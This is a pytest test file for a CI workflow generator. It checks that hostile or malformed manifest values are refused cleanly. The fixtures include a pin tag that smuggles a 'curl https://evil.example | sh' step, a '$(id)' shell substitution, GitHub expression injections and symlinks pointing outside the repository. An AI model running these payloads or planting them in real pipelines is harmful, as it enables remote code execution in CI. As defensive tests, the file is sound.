"""Input nobody planned for, some of it hostile (a pull request can edit ci.toml): each
case ends with a clear error naming the key (exit 2), or the documented exit code, with
no traceback and nothing written or deleted outside the repository."""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner, Result

from ci_gen import cli
from ci_gen.errors import ExitCode
from ci_gen.manifest import manifest_schema

from .conftest import GOLDEN

CRATE = '[crates.tinyjson]\npath = "."\n'
CHECKOUT_SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"


def ci_gen(root: Path, *args: str) -> Result:
    """``ci-gen ARGS`` in-process, run in ``root``."""
    here = Path.cwd()
    os.chdir(root)
    try:
        return CliRunner().invoke(cli.app, list(args), prog_name="ci-gen")
    finally:
        os.chdir(here)


def repository(tmp_path: Path, manifest: str, at: str = "ci.toml") -> Path:
    root = tmp_path / "repo"
    (root / at).parent.mkdir(parents=True, exist_ok=True)
    (root / at).write_text(manifest, encoding="utf-8")
    return root


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def refused(result: Result, code: ExitCode, *needles: str) -> None:
    """The command failed with ``code``, said each of ``needles``, and no traceback."""
    said = result.stdout + result.stderr
    assert result.exit_code == code, said
    assert "Traceback" not in said and "unexpected error" not in said, said
    for needle in needles:
        assert needle in said, said


def rejected(tmp_path: Path, manifest: str, needle: str, *commands: str) -> None:
    """Each command (render by default) refuses ``manifest`` with exit 2, saying
    ``needle``; nothing but the manifest is in the repository after."""
    root = repository(tmp_path, manifest)
    for command in commands or ("render",):
        refused(ci_gen(root, command), ExitCode.INVALID, needle)
    assert list(tree(root)) == ["ci.toml"]


# --- injection ---------------------------------------------------------------------

INJECTED_TAG = f"""{CRATE}
[pins."actions/checkout"]
sha = "{CHECKOUT_SHA}"
tag = "v7.0.1\\n      - name: evil\\n        run: curl https://evil.example | sh"
"""


@pytest.mark.parametrize(
    ("manifest", "key"),
    [
        pytest.param(INJECTED_TAG, 'pins."actions/checkout".tag', id="yaml-in-a-pin-tag"),
        pytest.param(
            CRATE + '[gate]\nclippy-args = ["${{ github.event.pull_request.title }}"]\n',
            "gate.clippy-args[0]",
            id="expression-in-clippy-args",
        ),
        pytest.param(
            CRATE + '[crates.x]\npath = "x/${{ github.head_ref }}"\n',
            "crates.x.path",
            id="expression-in-a-path",
        ),
        pytest.param(
            CRATE + '[runners.big]\nextends = "ubuntu"\nlabel = "a\\u2028b"\n',
            "runners.big.label",
            id="a-line-separator-in-a-label",
        ),
    ],
)
def test_injection_is_refused_with_the_key_and_nothing_is_written(
    tmp_path: Path, manifest: str, key: str
) -> None:
    rejected(tmp_path, manifest, f"ci.toml: {key}: ")


@pytest.mark.parametrize(
    ("manifest", "key"),
    [
        pytest.param('[crates."core\\n"]\npath = "core"\n', 'crates."core\\n"', id="crate-name"),
        pytest.param(CRATE + '[workspace]\ntoolchain = "stable\\n"\n', "workspace.toolchain"),
        pytest.param(CRATE + '[workspace]\nmsrv = "1.74\\n"\n', "workspace.msrv"),
        pytest.param(
            CRATE + '[workspace]\ndefault-branch = "main\\n"\n', "workspace.default-branch"
        ),
        pytest.param(
            CRATE + '[runners.ubuntu]\nlabel = "ubuntu-24.04\\n"\n', "runners.ubuntu.label"
        ),
        pytest.param(CRATE + '[matrix]\nos = ["ubuntu\\n"]\n', "matrix.os[0]"),
        pytest.param(CRATE + '[crates.b]\npath = "b\\n"\n', "crates.b.path"),
        pytest.param(
            CRATE + '[feature-sets.a]\nfeatures = ["std\\n"]\n', "feature-sets.a.features[0]"
        ),
    ],
)
def test_a_value_ending_in_a_newline_is_refused(tmp_path: Path, manifest: str, key: str) -> None:
    rejected(tmp_path, manifest, f"ci.toml: {key}: ")


def test_an_install_line_list_may_hold_newlines(tmp_path: Path) -> None:
    """gate.install is requirement lines: newlines are its syntax, not an injection."""
    hashed = "ci-gen==0.1.0 --hash=sha256:" + "ab" * 32
    root = repository(tmp_path, CRATE + f'[gate]\ninstall = """\n{hashed}\n"""\n')
    assert ci_gen(root, "render").exit_code == 0
    assert "--require-hashes" in (root / ".github/workflows/ci.yml").read_text()


# --- numbers -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("manifest", "expected"),
    [
        pytest.param(
            CRATE + "[runners.ubuntu]\nfast = { gb = 10, minutes = -138 }\n",
            "runners.ubuntu.fast.minutes: must be between 0 and 60, got -138",
            id="negative-cleanup-minutes",
        ),
        pytest.param(
            CRATE + "[runners.ubuntu]\nfree-gb = 99999999999999999999999999\n",
            "runners.ubuntu.free-gb: must be more than 0 and at most 100000, got 1e+26",
            id="huge-free-gb",
        ),
        pytest.param(
            CRATE + "[crates.tinyjson.cost]\ntest-min = 1e30\n",
            "crates.tinyjson.cost.test-min: must be between 0 and 1000, got 1e+30",
            id="test-min-1e30",
        ),
        pytest.param(
            CRATE + "[crates.tinyjson.cost]\nbuild-gb = 1e308\n",
            "crates.tinyjson.cost.build-gb: must be between 0 and 1000, got 1e+308",
            id="build-gb-1e308",
        ),
        pytest.param(
            CRATE + "[runners.ubuntu]\nspeed = 5e-324\n",
            "runners.ubuntu.speed: must be between 0.01 and 100, got 4.94065645841e-324",
            id="speed-subnormal",
        ),
        pytest.param(
            CRATE + "[runners.ubuntu]\ncores = 100000000000\n",
            "runners.ubuntu.cores: must be between 1 and 1024, got 100000000000",
            id="cores",
        ),
    ],
)
def test_a_number_out_of_range_names_its_key_and_range(
    tmp_path: Path, manifest: str, expected: str
) -> None:
    rejected(tmp_path, manifest, f"ci.toml: {expected}", "render", "plan", "check")


def test_the_schema_states_every_bound() -> None:
    """Each number key of the schema has the range the loader enforces."""

    def numbers(node: Mapping[str, object], path: str) -> list[str]:
        found = []
        if node.get("type") in ("number", "integer"):
            found.append(path)
            assert "maximum" in node and ("minimum" in node or "exclusiveMinimum" in node), path
        for key, value in node.items():
            if isinstance(value, dict):
                found += numbers(value, f"{path}.{key}")
        return found

    assert len(numbers(json.loads(manifest_schema()), "")) >= 25


# --- ordinary input that used to crash ---------------------------------------------


def test_a_manifest_in_dot_github_renders_to_the_repository(tmp_path: Path) -> None:
    root = repository(
        tmp_path, (GOLDEN / "reference" / "ci.toml").read_text(), ".github/ci-gen.toml"
    )
    result = ci_gen(root, "render", "--manifest", ".github/ci-gen.toml")
    assert result.exit_code == 0, result.stderr
    assert (root / ".github/workflows/ci.yml").is_file()
    assert not (root / ".github/.github").exists()
    assert ci_gen(root, "check", "--manifest", ".github/ci-gen.toml").exit_code == 0


def test_a_manifest_in_a_subfolder_renders_with_root(tmp_path: Path) -> None:
    text = (GOLDEN / "reference" / "ci.toml").read_text()
    root = repository(tmp_path, text, "build-support/ci.toml")
    result = ci_gen(root, "render", "--manifest", "build-support/ci.toml", "--root", ".")
    assert result.exit_code == 0, result.stderr
    workflow = (root / ".github/workflows/ci.yml").read_text()
    assert "ci-gen check --manifest build-support/ci.toml --root ." in workflow


def test_a_long_feature_set_name_renders(tmp_path: Path) -> None:
    text = (GOLDEN / "reference" / "ci.toml").read_text()
    text = text.replace("redb-only", "postgres-and-redis-backend-with-every-option")
    root = repository(tmp_path, text)
    result = ci_gen(root, "render")
    assert result.exit_code == 0, result.stderr
    assert (
        "postgres-and-redis-backend-with-every-option"
        in (root / ".github/workflows/ci.yml").read_text()
    )


# --- the file system -----------------------------------------------------------------

STALE = "# @generated by ci-gen 0.1.0 from ci.toml. Do not edit by hand:\nname: old\n"


@pytest.mark.parametrize("link", [".github", ".github/actions"])
def test_a_symlink_out_of_the_repository_is_neither_written_nor_pruned(
    tmp_path: Path, link: str
) -> None:
    root = repository(tmp_path, CRATE)
    outside = tmp_path / "outside"
    stale = outside / (
        "actions/ci-gen/old/action.yml" if link == ".github" else "ci-gen/old/action.yml"
    )
    stale.parent.mkdir(parents=True)
    stale.write_text(STALE)
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(outside, target_is_directory=True)
    before = tree(outside)
    refused(ci_gen(root, "render"), ExitCode.REFUSED, "is a symlink to", "outside the repository")
    assert tree(outside) == before


def test_a_symlink_inside_the_repository_is_followed(tmp_path: Path) -> None:
    """A .github that links to a folder of the same repository is the user's layout."""
    root = repository(tmp_path, CRATE)
    (root / "ci-files").mkdir()
    (root / ".github").symlink_to(root / "ci-files", target_is_directory=True)
    assert ci_gen(root, "render").exit_code == 0
    assert (root / "ci-files/workflows/ci.yml").is_file()


def test_workflows_being_a_file_writes_nothing(tmp_path: Path) -> None:
    root = repository(tmp_path, CRATE)
    (root / ".github").mkdir()
    (root / ".github/workflows").write_text("not a folder\n")
    before = tree(root)
    refused(ci_gen(root, "render"), ExitCode.REFUSED, "cannot write", "nothing was written")
    assert tree(root) == before  # no action file either: all or nothing
    assert sorted(p.name for p in (root / ".github").iterdir()) == ["workflows"]


def test_a_manifest_path_holding_an_expression_is_refused(tmp_path: Path) -> None:
    """The path goes into the drift step's command line."""
    root = repository(tmp_path, CRATE, "ci${{ github.actor }}.toml")
    result = ci_gen(root, "render", "--manifest", "ci${{ github.actor }}.toml")
    refused(result, ExitCode.INVALID, "the manifest's path goes into the workflow's commands")
    assert list(tree(root)) == ["ci${{ github.actor }}.toml"]


# --- what a tester found next ---------------------------------------------------------


@pytest.mark.parametrize("label", ["yes", "on", "null", "1.5", "-", ".inf", "0x1F"])
def test_a_runner_label_yaml_would_misread_stays_a_string(tmp_path: Path, label: str) -> None:
    manifest = CRATE + f'[runners.big]\nextends = "ubuntu"\nlabel = "{label}"\n'
    root = repository(tmp_path, manifest + '[matrix]\nos = ["big"]\n')
    result = ci_gen(root, "render")
    assert result.exit_code == 0, result.stderr
    config = yaml.safe_load((root / ".github/actionlint.yaml").read_text())
    assert config["self-hosted-runner"]["labels"] == [label]
    jobs = yaml.safe_load((root / ".github/workflows/ci.yml").read_text())["jobs"]
    assert {job["runs-on"] for job in jobs.values()} >= {label}


@pytest.mark.parametrize(
    ("manifest", "expected"),
    [
        pytest.param(
            CRATE + f'[pins."actions/checkout"]\nsha = "{CHECKOUT_SHA}"\ntag = "v1 "\n',
            "pins.\"actions/checkout\".tag: 'v1 ' is not a valid release tag",
            id="pin-tag-trailing-space",
        ),
        pytest.param(
            CRATE + '[matrix]\ntoolchains = ["beta", "beta"]\n',
            "matrix.toolchains[1]: 'beta' is listed already",
            id="toolchain-twice",
        ),
        pytest.param(
            CRATE + '[matrix]\nos = ["ubuntu", "ubuntu"]\n',
            "matrix.os[1]: 'ubuntu' is listed already",
            id="os-twice",
        ),
        pytest.param(
            CRATE + '[workspace]\nmsrv = "1.' + "9" * 5000 + '"\n',
            "workspace.msrv: '1.999",
            id="a-5000-digit-version",
        ),
        pytest.param(
            CRATE + '[workspace]\nmsrv = "\u0661.\u0668\u0665"\n',
            "is not a valid Rust version",
            id="arabic-indic-digits",
        ),
        pytest.param(
            CRATE + "x = " + "[" * 500 + "]" * 500 + "\n",
            "values nested too deeply",
            id="nested-500-deep",
        ),
        pytest.param(
            CRATE + '[gate]\nclippy-args = ["$(id)"]\n',
            "gate.clippy-args[0]: '$(id)' is not a valid cargo argument",
            id="shell-in-clippy-args",
        ),
        pytest.param(
            CRATE + "[crates.tinyjson.cost]\nbuild-gb = 1000.0000001\n",
            "must be between 0 and 1000, got 1000.0000001",
            id="just-over-a-bound",
        ),
        pytest.param(
            CRATE + f'[workflow]\nfile = "{"w" * 300}.yml"\n',
            "workflow.file: ",
            id="a-300-character-file-name",
        ),
    ],
)
def test_more_bad_input_is_exit_2(tmp_path: Path, manifest: str, expected: str) -> None:
    rejected(tmp_path, manifest, expected)


@pytest.mark.parametrize("name", ["a: b.toml", "ci #x.toml", "m" * 101 + ".toml"])
def test_a_manifest_path_yaml_or_a_line_cannot_hold_is_refused(tmp_path: Path, name: str) -> None:
    root = repository(tmp_path, CRATE, name)
    refused(ci_gen(root, "render", "--manifest", name), ExitCode.INVALID, "rename it")


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_a_workflow_path_that_is_not_a_file_is_refused(tmp_path: Path, kind: str) -> None:
    root = repository(tmp_path, CRATE)
    target = root / ".github/workflows/ci.yml"
    target.parent.mkdir(parents=True)
    if kind == "folder":
        target.mkdir()
    else:
        os.mkfifo(target)
    refused(ci_gen(root, "render"), ExitCode.REFUSED, "and not a file")
    assert ci_gen(root, "check").exit_code == 1  # missing, and no hang reading a FIFO


@pytest.mark.parametrize("spelled", [".github/sub/../ci-gen.toml", "ci-gen.toml"])
def test_a_manifest_in_dot_github_however_spelled(tmp_path: Path, spelled: str) -> None:
    root = repository(tmp_path, CRATE, ".github/ci-gen.toml")
    (root / ".github/sub").mkdir()
    where = root / ".github" if spelled == "ci-gen.toml" else root
    assert ci_gen(where, "render", "--manifest", spelled).exit_code == 0
    assert (root / ".github/workflows/ci.yml").is_file()
    assert not (root / ".github/.github").exists()
